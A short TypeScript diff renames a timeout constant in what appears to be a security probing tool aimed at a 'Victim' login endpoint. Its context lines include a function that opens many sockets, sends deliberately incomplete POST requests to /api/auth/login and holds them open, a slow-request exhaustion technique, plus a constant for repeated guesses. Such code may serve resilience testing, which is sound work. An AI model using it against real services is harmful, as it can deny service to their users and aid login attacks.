@@ -9,7 +9,7 @@ export interface Victim {
   email: string;
 }
 
-const PATIENCE_MS = 10_000;
+const TIMEOUT_MS = 10_000;
 const HALF_SENT = 40;
 const GUESSES = 30;
 
@@ -23,7 +23,7 @@ function send({ url }: Victim, method: string, path: string, headers: Record<str
   const since = Date.now();
   return new Promise((resolve) => {
     const settle = (status: number): void => resolve({ status, ms: Date.now() - since });
-    const sent = request(`${url}${path}`, { method, headers, timeout: PATIENCE_MS, agent: false }, (answer) => {
+    const sent = request(`${url}${path}`, { method, headers, timeout: TIMEOUT_MS, agent: false }, (answer) => {
       answer.resume().once('close', () => settle(answer.statusCode ?? 0));
     });
     sent.once('error', () => settle(0)).once('timeout', () => sent.destroy());
@@ -50,8 +50,8 @@ function halfSent({ url }: Victim): Promise<Sent[]> {
     socket.write(
       `POST /api/auth/login HTTP/1.1\r\nhost: ${hostname}:${port}\r\ncontent-type: application/json\r\ncontent-length: 5000\r\n\r\n{"email":`,
     );
-    // Left open for as long as the run has patience; the process does not wait for it.
-    socket.setTimeout(PATIENCE_MS * 3, () => socket.destroy()).unref();
+    // Left open until it times out; the process does not wait for it.
+    socket.setTimeout(TIMEOUT_MS * 3, () => socket.destroy()).unref();
     return socket;
   });
   return Promise.resolve(opened.map(() => ({ status: -1, ms: 0 })));
